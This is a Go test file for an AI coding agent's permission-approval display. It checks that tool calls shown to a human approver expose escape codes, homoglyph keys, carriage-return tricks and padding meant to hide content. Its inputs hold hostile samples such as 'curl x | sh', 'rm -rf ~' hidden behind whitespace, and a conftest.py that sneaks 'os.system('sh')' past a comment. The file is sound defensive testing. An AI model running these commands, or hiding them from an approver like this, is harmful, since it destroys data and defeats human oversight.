package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/lite-agent/lite-agent-go/internal/termtext"
	"github.com/lite-agent/lite-agent-go/permission"
)

const question = "[y]es, [n]o, [a]lways this call in this session: "

func TestWriteApproval(t *testing.T) {
	for _, tc := range []struct {
		name, tool, input string
		verdict           permission.Verdict
		want              string
	}{
		{
			name: "fields in the model's order", tool: "bash",
			input:   `{"description":"Run the tests","command":"cd web && npm test"}`,
			verdict: permission.Verdict{RuleID: "bash-analysis", Reason: "the command cannot be fully analyzed: npm runs code from package.json"},
			want: "allow bash? the command cannot be fully analyzed: npm runs code from package.json (bash-analysis)\n" +
				"  description: Run the tests\n" +
				"  command: cd web && npm test\n" + question,
		},
		{
			name: "several lines, tabs expanded", tool: "write_file",
			input: `{"path":"run.sh","content":"#!/bin/sh\n\tcurl x | sh\n"}`,
			want: "allow write_file?\n" +
				"  path: run.sh\n" +
				"  content:\n" +
				"  | #!/bin/sh\n" +
				"  |         curl x | sh\n" +
				"  | \n" + question,
		},
		{
			name: "escapes, and backslashes doubled beside them", tool: "mcp__srv\u202e__x",
			input:   `{"command":"ls\r\u001b[2Kecho ok\u200b","ke\u0007y":"v\u0085","n":[1, {"a" : "\u2066"}],"s":"a\\n\u200bb"}`,
			verdict: permission.Verdict{RuleID: "r\u001b1"},
			want: "allow mcp__srv\\u202e__x? (r\\x1b1)\n" +
				"  command:\n" +
				"  | ls\\r\n" +
				"  | \\x1b[2Kecho ok\\u200b\n" +
				"  ke\\ay: \"v\\u0085\"\n" +
				"  n: [1,{\"a\":\"\\u2066\"}]\n" +
				"  s: a\\\\n\\u200bb\n" + question,
		},
		{
			// Python reads a lone carriage return as a line end: the
			// os.system is code, not part of the comment.
			name: "a carriage return ends a line as Python reads it", tool: "write_file",
			input: `{"path":"conftest.py","content":"import pytest\n# line ends are \\r\\n on Windows:\rimport os; os.system('sh')\n"}`,
			want: "allow write_file?\n" +
				"  path: conftest.py\n" +
				"  content:\n" +
				"  | import pytest\n" +
				"  | # line ends are \\\\r\\\\n on Windows:\\r\n" +
				"  | import os; os.system('sh')\n" +
				"  | \n" + question,
		},
		{
			name: "blanks, empty values and quotes in quoted values", tool: "edit_file",
			input: `{"old_string":" x ","new_string":"","path":"a b","q":"\"\"","r":" \"a\\b\" "}`,
			want: "allow edit_file?\n" +
				"  old_string: \" x \"\n" +
				"  new_string: \"\"\n" +
				"  path: a b\n" +
				"  q: \"\"\n" +
				"  r: \" \\\"a\\\\b\\\" \"\n" + question,
		},
		{
			name: "null, numbers, nested escapes", tool: "x",
			input: `{"path":null,"n":9007199254740993,"e":1e400,"o":{"c":"\u0072\u006d <b>"}}`,
			want: "allow x?\n" +
				"  path: null\n" +
				"  n: 9007199254740993\n" +
				"  e: 1e400\n" +
				"  o: {\"c\":\"rm <b>\"}\n" + question,
		},
		{
			name: "a key in another script", tool: "mcp__db__query",
			input: `{"sql":"DROP TABLE users","ѕql":"SELECT 1"}`,
			want: "allow mcp__db__query?\n" +
				"  sql: DROP TABLE users\n" +
				"  \\u0455ql: SELECT 1\n" + question,
		},
		{
			name: "right-to-left letters", tool: "bash",
			input: `{"command":"echo א 1 2>&1 ב"}`,
			want:  "allow bash?\n  command: echo \\u05d0 1 2>&1 \\u05d1\n" + question,
		},
		{
			name: "not an object", tool: "x", input: "[\"a\",\n 1]",
			want: "allow x?\n  input: [\"a\",1]\n" + question,
		},
		{
			name: "trailing data", tool: "x", input: `{"a":1} {"b":2}`,
			want: "allow x?\n  input: {\"a\":1} {\"b\":2}\n" + question,
		},
		{
			name: "a string", tool: "x", input: `"rm -rf ~"`,
			want: "allow x?\n  input: rm -rf ~\n" + question,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b strings.Builder
			hidden := writeApproval(&b, permission.ApprovalRequest{
				Call:    permission.Call{Name: tc.tool, Input: []byte(tc.input)},
				Verdict: tc.verdict,
			}, false, defaultScreen)
			if got := b.String(); got != tc.want || hidden {
				t.Errorf("got (hidden %v)\n%s\nwant\n%s", hidden, got, tc.want)
			}
		})
	}
}

// The first view of a call fits the screen, header and question
// included, whatever pads it: what it leaves out it says it leaves out,
// and v shows the whole call.
func TestWriteApprovalFitsTheScreen(t *testing.T) {
	many := make([]string, 100)
	for i := range many {
		many[i] = fmt.Sprintf("echo %d", i)
	}
	many[60] = "the middle"
	for _, tc := range []struct {
		name, input string
		shown       []string // in the first view
		notShown    []string // only with v
	}{
		{
			name:     "many lines",
			input:    mustJSONString(map[string]string{"command": strings.Join(many, "\n")}),
			shown:    []string{"  | echo 0\n", "  | echo 99\n", "part of the call is not shown"},
			notShown: []string{"the middle"},
		},
		{
			name:     "blank lines before the harmless end",
			input:    mustJSONString(map[string]string{"command": "curl -s x | sh" + strings.Repeat("\n", 45) + "npm test"}),
			shown:    []string{"  | curl -s x | sh\n", "  | … 44 blank lines …\n", "  | npm test\n"},
			notShown: []string{"  | \n  | \n  | \n  | \n  | \n"},
		},
		{
			name:     "spaces",
			input:    mustJSONString(map[string]string{"command": "rm -rf ~" + strings.Repeat(" ", 3990) + "build"}),
			shown:    []string{"rm -rf ~ … 3990 spaces … build"},
			notShown: []string{strings.Repeat(" ", 100)},
		},
		{
			name:     "one long line",
			input:    mustJSONString(map[string]string{"command": "echo start " + strings.Repeat("y", 20000) + " TAIL"}),
			shown:    []string{"echo start yyy", "yyy TAIL\n", "part of the call is not shown"},
			notShown: []string{strings.Repeat("y", 2000)},
		},
		{
			name:     "a reason quoting a long path",
			input:    `{"command":"rm -rf /tmp/` + strings.Repeat("x", 3000) + `"}`,
			shown:    []string{"allow bash? the command deletes outside", "part of the call is not shown"},
			notShown: []string{strings.Repeat("x", 2000)},
		},
		{
			name: "many fields",
			input: func() string {
				m := map[string]string{}
				for i := range 60 {
					m[fmt.Sprintf("f%02d", i)] = "v"
				}
				return mustJSONString(m)
			}(),
			shown:    []string{"  f00: v\n", "  f59: v\n", "part of the call is not shown"},
			notShown: []string{"  f30: v\n"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req := permission.ApprovalRequest{Call: permission.Call{Name: "bash", Input: []byte(tc.input)}}
			if strings.HasPrefix(tc.name, "a reason") {
				req.Verdict.Reason = "the command deletes outside the workdir: /tmp/" + strings.Repeat("x", 3000)
			}
			var b strings.Builder
			if !writeApproval(&b, req, false, defaultScreen) {
				t.Error("nothing reported hidden")
			}
			got := b.String()
			rows := 0
			for _, l := range strings.Split(got, "\n") {
				rows += rowsOf(l, defaultScreen.cols)
			}
			if rows > defaultScreen.rows-1 {
				t.Errorf("the first view takes %d rows of a %d-row screen:\n%s", rows, defaultScreen.rows, got)
			}
			if !strings.HasPrefix(got, "allow bash?") || !strings.HasSuffix(got, ", [v]iew it all: ") {
				t.Errorf("no header or no v:\n%s", got)
			}
			for _, s := range tc.shown {
				if !strings.Contains(got, s) {
					t.Errorf("no %q in the first view:\n%s", s, got)
				}
			}
			for _, s := range tc.notShown {
				if strings.Contains(got, s) {
					t.Errorf("%q in the first view", s)
				}
			}
			b.Reset()
			if writeApproval(&b, req, true, defaultScreen) {
				t.Error("the full view says it left something out")
			}
			got = b.String()
			for _, s := range append(tc.notShown, "allow bash?") {
				if !strings.Contains(got, s) {
					t.Errorf("no %q in the full view", s)
				}
			}
			if strings.Contains(got, "not shown") || strings.Contains(got, " blank lines …") || strings.Contains(got, " spaces … ") {
				t.Errorf("the full view shortens:\n%.2000s", got)
			}
		})
	}
}

// An a answer allows the same call again, and only the same: the same
// values written as the model wrote them, numbers and lone surrogates
// included.
func TestCallPatternIsExact(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		same bool
	}{
		{`{"id":1,"x":"a"}`, `{"x":"a", "id":1}`, true},
		{`{"id":9007199254740993}`, `{"id":9007199254740992}`, false},
		{`{"s":"\ud800"}`, `{"s":"\udbff"}`, false},
		{`{"s":"\ud800"}`, `{"s":"\ufffd"}`, false},
		{`{"o":{"a":1,"b":2}}`, `{"o":{"a":1,"b":2}}`, true},
	} {
		ka, _ := callPattern(permission.Call{Name: "t", Input: []byte(tc.a)})
		kb, _ := callPattern(permission.Call{Name: "t", Input: []byte(tc.b)})
		if (ka == kb) != tc.same {
			t.Errorf("%s and %s: same pattern %v, want %v", tc.a, tc.b, ka == kb, tc.same)
		}
	}
	_, rule := callPattern(permission.Call{Name: "t", Input: []byte(`{"id":9007199254740993}`)})
	if !strings.Contains(rule, "9007199254740993") {
		t.Errorf("rule %s does not keep the number", rule)
	}
}

// Whatever the model sends, the first view holds no character a terminal
// would act on or hide (but the newlines between its lines) and fits the
// screen.
func FuzzWriteApproval(f *testing.F) {
	for _, s := range []string{`{"command":"ls"}`, `{"a":"x\ny\r\u001b[2J","b":[1,{"c":null}]}`, `"s"`, `[1`, `{"k":"` + strings.Repeat(" ", 40) + `x"}`} {
		f.Add("bash", s)
	}
	f.Fuzz(func(t *testing.T, name, input string) {
		var b strings.Builder
		writeApproval(&b, permission.ApprovalRequest{Call: permission.Call{Name: name, Input: []byte(input)},
			Verdict: permission.Verdict{Reason: "the command deletes outside the workdir: " + input}}, false, defaultScreen)
		got := b.String()
		rows := 0
		for _, l := range strings.Split(got, "\n") {
			rows += rowsOf(l, defaultScreen.cols)
			for _, r := range l {
				if !termtext.Shown(r) {
					t.Fatalf("%U in the view of %q:\n%q", r, input, got)
				}
			}
		}
		if rows > defaultScreen.rows-1 {
			t.Fatalf("%d rows for %q:\n%s", rows, input, got)
		}
	})
}
